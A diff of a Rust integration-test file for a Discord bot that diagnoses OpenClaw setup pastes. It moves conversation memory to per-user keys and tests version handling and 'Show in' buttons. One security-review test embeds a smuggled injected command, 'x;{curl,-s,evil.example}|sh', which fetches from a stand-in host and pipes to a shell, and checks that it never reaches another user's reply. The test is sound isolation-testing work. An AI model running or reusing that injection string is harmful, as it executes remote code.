@@ -20,7 +20,7 @@ use std::sync::{Arc, Mutex, OnceLock};
 use std::time::Duration;
 use support::fake_discord::{APP_ID, GUILD_ID};
 use support::payloads::*;
-use support::{Bot, TOKEN};
+use support::{user_key, without_reply_id, Bot, TOKEN};
 
 // ---------------------------------------------------------------------------------------------
 // Pastes
@@ -181,7 +181,7 @@ async fn diagnose_with_a_paste_replies_with_the_exact_pin() {
     // The whole payload is the engine's diagnosis in the Discord layout…
     let report = diagnose_thread(&[PASTE_PIN], &Options { discord_locale: Some("en-US"), ..Default::default() });
     let expected = diagnosis_messages(&report);
-    assert_eq!(cb, json!({ "type": 4, "data": expected[0] }));
+    assert_eq!(without_reply_id(&cb), json!({ "type": 4, "data": expected[0] }));
     assert!(b.fake.followups(&env.token()).is_empty());
     // …and these are its exact parts.
     let data = &cb["data"];
@@ -204,7 +204,8 @@ async fn diagnose_with_a_paste_replies_with_the_exact_pin() {
         .flat_map(|row| row["components"].as_array().unwrap())
         .map(|c| c["custom_id"].as_str().unwrap())
         .collect();
-    assert_eq!(ids, ["cm:ok:en", "cm:fail:en", "cm:show"]);
+    // "Show in …" carries the id of the reply it sits under (the interaction's id).
+    assert_eq!(ids, ["cm:ok:en", "cm:fail:en", format!("cm:show:{}", env.id).as_str()]);
     b.shutdown().await.unwrap();
 }
 
@@ -233,6 +234,30 @@ async fn diagnose_without_input_opens_a_modal_and_the_submit_is_diagnosed() {
     assert_eq!(cb["data"]["allowed_mentions"], no_mentions());
     let shell = fields(&cb["data"]).into_iter().find(|(n, _)| n == "Next steps · gateway host shell").unwrap();
     assert!(shell.1.contains("```sh\nopenclaw models auth login --provider openai-codex\n```"), "{}", shell.1);
+    b.shutdown().await.unwrap();
+}
+
+/// The `version` option takes what `openclaw --version` prints; through the modal too, and a
+/// word like `latest` (never an error) is carried to the reply's note.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_version_option_reads_what_openclaw_prints() {
+    let b = bot().await;
+    let ch = channel();
+    let env = Envelope::new(b.fake.id(), ch, "en-US");
+    let cb = b.interact(env.command("diagnose", vec![opt("version", "🦞 OpenClaw 2026.6.9 (c645ec4)"), opt("paste", BANNER)])).await;
+    let description = cb["data"]["embeds"][0]["description"].as_str().unwrap().to_string();
+    assert!(description.starts_with("OpenClaw 2026.6.9 (as given)."), "{description}");
+    // Another thread (this one now remembers 2026.6.9).
+    let ch = channel();
+    let env = Envelope::new(b.fake.id(), ch, "en-US");
+    let cb = b.interact(env.command("diagnose", vec![opt("version", "latest: 最新版"), opt("language", "en")])).await;
+    let custom_id = cb["data"]["custom_id"].as_str().unwrap().to_string();
+    assert_eq!(custom_id, "cm:modal:d:en:latest: 最新版");
+    let env = Envelope::new(b.fake.id(), ch, "en-US");
+    let cb = b.interact(env.modal_submit(&custom_id, BANNER)).await;
+    let description = cb["data"]["embeds"][0]["description"].as_str().unwrap();
+    assert!(description.starts_with("OpenClaw version unknown"), "{description}");
+    assert!(description.contains("The version you gave, “`latest: 最新版`”, is not an OpenClaw release"), "{description}");
     b.shutdown().await.unwrap();
 }
 
@@ -305,7 +330,7 @@ async fn context_menu_replies_in_the_authors_language_not_the_helpers() {
     let cb = b.interact(env.context_menu(&msg)).await;
     let report = diagnose_thread(&[&content], &Options::default());
     assert_eq!(report.locale, Locale::ZhTw);
-    assert_eq!(cb, json!({ "type": 4, "data": diagnosis_messages(&report)[0] }));
+    assert_eq!(without_reply_id(&cb), json!({ "type": 4, "data": diagnosis_messages(&report)[0] }));
     let embed = &cb["data"]["embeds"][0];
     assert_eq!(embed["footer"]["text"], "clawmedic · oauth_expired · zh-TW");
     let title = tr(Locale::ZhTw, &Msg::new("reply-top-finding").arg("title", t(Locale::ZhTw, "cause-oauth_expired")));
@@ -356,14 +381,15 @@ async fn model_pin_builds_the_5_12_codex_pin_and_explains_the_prefix() {
     assert_eq!(f[0].0, "Next steps · gateway host shell");
     assert!(f[0].1.ends_with("```sh\nopenclaw doctor --fix\n```"));
     assert!(f[1].1.ends_with("```\n/model openai/gpt-5.5@openai:kim\n```"));
-    // A bad version: ephemeral and clear.
+    // A version that names no release: not an error; the pin is built for an unknown
+    // version and the reply says why the version was not used.
     let env = Envelope::new(b.fake.id(), channel(), "en-US");
     let pin = subcommand("pin", vec![opt("profile", "openai:work"), opt("version", "v9")]);
     let cb = b.interact(env.command("model", vec![pin])).await;
-    assert_eq!(
-        cb,
-        json!({ "type": 4, "data": { "content": "Cannot read the OpenClaw version v9; use the form 2026.6.9.", "allowed_mentions": { "parse": [] }, "flags": 64 } })
-    );
+    assert_eq!(cb["type"], 4);
+    let description = cb["data"]["embeds"][0]["description"].as_str().unwrap();
+    assert!(description.starts_with("OpenClaw version unknown"), "{description}");
+    assert!(description.contains("The version you gave, “`v9`”, is not an OpenClaw release this build knows, so it was not used."), "{description}");
     b.shutdown().await.unwrap();
 }
 
@@ -466,7 +492,7 @@ async fn thread_memory_combines_a_banner_and_a_probe_table() {
     assert!(evidence.contains("*message 1, line 2*") && evidence.contains("*message 2, line "), "{evidence}");
     assert!(shown(&second).contains("```\\n/model openai-codex/gpt-5.4@openai-codex:sam.lee@example.net\\n```"));
     // The memory holds both messages, the version and the language.
-    let mem = b.store.load(&ThreadKey::discord(ch)).await.unwrap().unwrap();
+    let mem = b.store.load(&user_key(ch)).await.unwrap().unwrap();
     assert_eq!(mem.messages, 2);
     assert_eq!(mem.version.as_deref(), Some("2026.5.12"));
     assert_eq!(mem.locale.as_deref(), Some("en"));
@@ -514,7 +540,7 @@ async fn a_failing_or_slow_store_still_gets_a_stateless_reply() {
     let env = Envelope::new(b.fake.id(), channel(), "en-US");
     let cb = b.interact(env.command("diagnose", vec![opt("paste", PASTE_PIN)])).await;
     let report = diagnose_thread(&[PASTE_PIN], &Options { discord_locale: Some("en-US"), ..Default::default() });
-    assert_eq!(cb, json!({ "type": 4, "data": diagnosis_messages(&report)[0] }));
+    assert_eq!(without_reply_id(&cb), json!({ "type": 4, "data": diagnosis_messages(&report)[0] }));
     // "Show in" needs memory: with none, a clear ephemeral error in the chosen language.
     let env = Envelope::new(b.fake.id(), channel(), "en-US");
     let cb = b.interact(env.component("cm:show", 3, Some(vec!["en"]), &bot_message(b.fake.id(), 1))).await;
@@ -528,7 +554,7 @@ async fn a_failing_or_slow_store_still_gets_a_stateless_reply() {
         Bot::start(Arc::new(slow), BotSettings { store_timeout: Duration::from_millis(100), ..settings(false) }).await;
     let env = Envelope::new(b.fake.id(), channel(), "en-US");
     let cb = b.interact(env.command("diagnose", vec![opt("paste", PASTE_PIN)])).await;
-    assert_eq!(cb, json!({ "type": 4, "data": diagnosis_messages(&report)[0] }));
+    assert_eq!(without_reply_id(&cb), json!({ "type": 4, "data": diagnosis_messages(&report)[0] }));
     b.shutdown().await.unwrap();
 }
 
@@ -536,8 +562,8 @@ async fn a_failing_or_slow_store_still_gets_a_stateless_reply() {
 async fn buttons_worked_still_failing_and_show_in_another_language() {
     let b = bot().await;
     let ch = channel();
-    let env = Envelope::new(b.fake.id(), ch, "en-US");
-    b.interact(env.command("diagnose", vec![opt("paste", PASTE_PIN)])).await;
+    let asked = Envelope::new(b.fake.id(), ch, "en-US");
+    b.interact(asked.command("diagnose", vec![opt("paste", PASTE_PIN)])).await;
     let reply = bot_message(b.fake.id(), ch);
 
     let env = Envelope::new(b.fake.id(), ch, "en-US");
@@ -564,8 +590,8 @@ async fn buttons_worked_still_failing_and_show_in_another_language() {
 
     // A German-speaking helper reads the same diagnosis in German, just for themselves.
     let env = Envelope::new(b.fake.id(), ch, "de");
-    let cb = b.interact(env.component("cm:show", 3, Some(vec!["de"]), &reply)).await;
-    let mem = b.store.load(&ThreadKey::discord(ch)).await.unwrap().unwrap();
+    let cb = b.interact(env.component(&format!("cm:show:{}", asked.id), 3, Some(vec!["de"]), &reply)).await;
+    let mem = b.store.load(&user_key(ch)).await.unwrap().unwrap();
     let report = clawmedic::diagnose_with_memory(&mem.facts, &[], &Options { lang: Some("de"), ..Default::default() });
     let expected = clawmedic::discord::layout::messages(
         &clawmedic::discord::layout::diagnosis_reply(&report),
@@ -609,12 +635,13 @@ async fn watch_mode_replies_once_per_thread_within_the_rate_limit() {
     let mut expected = diagnosis_messages(&report)[0].clone();
     expected["message_reference"] =
         json!({ "message_id": msg_id.to_string(), "channel_id": ch.to_string(), "fail_if_not_exists": false });
-    assert_eq!(sent.body, expected);
+    assert_eq!(without_reply_id(&sent.body), expected);
+    assert_eq!(sent.body["components"][1]["components"][0]["custom_id"], json!(format!("cm:show:{msg_id}")));
     assert_eq!(sent.body["allowed_mentions"], no_mentions());
 
     // A second paste in the same thread within the rate limit: remembered, not answered.
     b.fake.dispatch("MESSAGE_CREATE", message(b.fake.id(), ch, user(USER_ID, "asker"), PROBE_CODEX));
-    let key = ThreadKey::discord(ch);
+    let key = user_key(ch);
     for _ in 0..600 {
         if b.store.load(&key).await.unwrap().is_some_and(|m| m.messages == 2) {
             break;
@@ -655,4 +682,79 @@ async fn the_bot_token_is_never_logged() {
     let logs = String::from_utf8_lossy(&LOGS.lock().unwrap()).into_owned();
     assert!(logs.contains("connected to the gateway"), "logs are captured");
     assert!(!logs.contains(TOKEN) && !logs.contains("never-printed"), "the token leaked into the logs");
+}
+
+/// Security review H2: two users in one ordinary text channel. Nothing of A's paste (profile
+/// ids, an injected provider name) reaches B's reply, B's autocomplete or B's "Show in …";
+/// each user's memory is their own, and "Show in …" re-renders the reply it sits under.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn two_users_in_one_text_channel_never_see_each_others_paste() {
+    let b = bot().await;
+    let ch = channel();
+    let a_paste = format!("{PROBE_CODEX}\nUnknown provider \"x;{{curl,-s,evil.example}}|sh\". Loaded providers: openai");
+    let mut a = Envelope::new(b.fake.id(), ch, "en-US");
+    a.invoker = member(USER_ID, "alice", MEMBER_PERMS);
+    let a_reply = b.interact(a.command("diagnose", vec![opt("paste", &a_paste)])).await;
+    assert!(a_reply.to_string().contains("sam.lee@example.net"), "A's own reply uses A's paste");
+
+    let mut bee = Envelope::new(b.fake.id(), ch, "en-US");
+    bee.invoker = member(HELPER_ID, "bob", MEMBER_PERMS);
+    let b_reply = b.interact(bee.command("diagnose", vec![opt("paste", BANNER)])).await;
+    // B's reply is exactly what B's paste alone gives.
+    let alone = diagnose_thread(&[BANNER], &Options { discord_locale: Some("en-US"), ..Default::default() });
+    assert_eq!(without_reply_id(&b_reply), json!({ "type": 4, "data": diagnosis_messages(&alone)[0] }));
+    for leaked in ["sam.lee", "evil.example", "curl", "message 2"] {
+        assert!(!b_reply.to_string().contains(leaked), "{leaked} of A's paste in B's reply: {b_reply}");
+    }
+    // Autocomplete shows each asker their own memory only.
+    let mut q = Envelope::new(b.fake.id(), ch, "en-US");
+    q.invoker = member(HELPER_ID, "bob", MEMBER_PERMS);
+    let cb = b.interact(q.autocomplete("model", vec![subcommand("pin", vec![focused("profile", "")])])).await;
+    assert_eq!(cb, json!({ "type": 8, "data": { "choices": [] } }));
+    let mut q = Envelope::new(b.fake.id(), ch, "en-US");
+    q.invoker = member(USER_ID, "alice", MEMBER_PERMS);
+    let cb = b.interact(q.autocomplete("model", vec![subcommand("pin", vec![focused("profile", "sam")])])).await;
+    assert_eq!(
+        cb,
+        json!({ "type": 8, "data": { "choices": [{ "name": "openai-codex:sam.lee@example.net", "value": "openai-codex:sam.lee@example.net" }] } })
+    );
+    // Two memories, one per user; none under the bare channel.
+    let a_key = clawmedic::discord::conversation::key_for(ch, false, Some(USER_ID)).unwrap();
+    let b_key = clawmedic::discord::conversation::key_for(ch, false, Some(HELPER_ID)).unwrap();
+    assert_eq!(b.store.load(&a_key).await.unwrap().unwrap().messages, 1);
+    let b_mem = b.store.load(&b_key).await.unwrap().unwrap();
+    assert_eq!(b_mem.messages, 1);
+    assert!(!serde_json::to_string(&b_mem.facts).unwrap().contains("sam.lee"));
+    assert!(b.store.load(&ThreadKey::discord(ch)).await.unwrap().is_none());
+    // "Show in …" under B's reply re-renders B's reply, whoever presses it, even after A
+    // pasted again.
+    b.interact(a.command("diagnose", vec![opt("paste", PROBE_CODEX)])).await;
+    let mut press = Envelope::new(b.fake.id(), ch, "de");
+    press.invoker = member(USER_ID, "alice", MEMBER_PERMS);
+    let shown_b = b.interact(press.component(&format!("cm:show:{}", bee.id), 3, Some(vec!["de"]), &bot_message(b.fake.id(), ch))).await;
+    let de = diagnose_thread(&[BANNER], &Options { lang: Some("de"), ..Default::default() });
+    assert_eq!(shown_b["data"]["embeds"][0]["footer"]["text"], json!(clawmedic::render::text::footer(&de)));
+    assert!(!shown_b.to_string().contains("sam.lee"), "{shown_b}");
+    assert_eq!(shown_b["data"]["flags"], 64);
+    b.shutdown().await.unwrap();
+}
+
+/// In a thread the thread is one conversation: what one member pastes, the next reply there
+/// reads too (the evidence of both messages).
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_thread_is_one_shared_conversation() {
+    let b = bot().await;
+    let ch = channel();
+    let in_thread = |mut v: Value| {
+        v["channel"]["type"] = json!(11);
+        v
+    };
+    let a = Envelope::new(b.fake.id(), ch, "en-US");
+    b.interact(in_thread(a.command("diagnose", vec![opt("paste", BANNER), opt("version", "2026.5.12")]))).await;
+    let mut helper = Envelope::new(b.fake.id(), ch, "en-US");
+    helper.invoker = member(HELPER_ID, "helper", MEMBER_PERMS);
+    let cb = b.interact(in_thread(helper.command("diagnose", vec![opt("paste", PROBE_CODEX)]))).await;
+    assert_eq!(cb["data"]["embeds"][0]["footer"]["text"], "clawmedic · session_pin_stale · en");
+    assert_eq!(b.store.load(&ThreadKey::discord(ch)).await.unwrap().unwrap().messages, 2);
+    b.shutdown().await.unwrap();
 }
